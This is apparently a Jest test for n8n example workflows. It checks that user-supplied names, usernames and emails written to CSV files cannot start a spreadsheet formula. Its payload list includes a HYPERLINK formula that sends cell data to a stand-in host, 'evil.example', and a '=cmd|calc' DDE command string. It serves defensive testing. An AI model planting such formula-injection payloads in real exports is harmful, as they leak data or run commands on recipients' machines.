import { runInNewContext } from 'node:vm';
import { exampleFiles, readExampleFile, type Example } from '../../support/examples.mts';

const isCsv = ({ type, parameters }: Example['nodes'][number]) =>
	type === 'n8n-nodes-base.convertToFile' && parameters.operation === 'csv';

const csvExamples = exampleFiles()
	.map((file) => ({ file, example: readExampleFile(file) }))
	.filter(({ example }) => example.nodes.some(isCsv));

/** The texts that users choose themselves, among the expressions for a line of the file. */
function cellsOf({ nodes, connections }: Example): string[] {
	const files = nodes.filter(isCsv).map(({ name }) => name);
	const before = Object.entries(connections)
		.filter(([, { main }]) => main.flat().some(({ node }) => files.includes(node)))
		.map(([name]) => name);
	return nodes
		.filter(({ name }) => before.includes(name))
		.flatMap(({ parameters }) => {
			const { assignments } = parameters.assignments as {
				assignments: Array<{ value: string }>;
			};
			return assignments.map(({ value }) => value);
		})
		.filter((value) => /\$json\.(name|username|email|nickname)/.test(value));
}

const evaluate = (expression: string, json: object) => {
	const code = /^=\{\{(.*)\}\}$/s.exec(expression)?.[1] ?? '';
	return String(runInNewContext(code, { $json: json }));
};

it('there is a CSV file to look at', () => {
	expect(csvExamples.length).toBeGreaterThan(0);
	for (const { example } of csvExamples) expect(cellsOf(example).length).toBeGreaterThan(1);
});

it.each(csvExamples)('$file writes no cell that a spreadsheet would calculate', ({ example }) => {
	const attacks = [
		...['=HYPERLINK("https://evil.example/?"&B2,"Open")', '+1+1', '-1', '@SUM(A1)'],
		...['\t=1', '\r=1', '\n=1', '=cmd|calc', '＝1', '＋1', '－1', '＠A'],
	];
	for (const cell of cellsOf(example)) {
		for (const attack of attacks) {
			const json = { name: { given: attack, family: '' }, username: attack, email: attack };
			expect(evaluate(cell, json)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
		}
		const honest = { name: { given: 'Ada', family: 'Lovelace' }, username: 'ada', email: 'a@b' };
		expect(['Ada Lovelace', 'ada', 'a@b']).toContain(evaluate(cell, honest));
	}
});
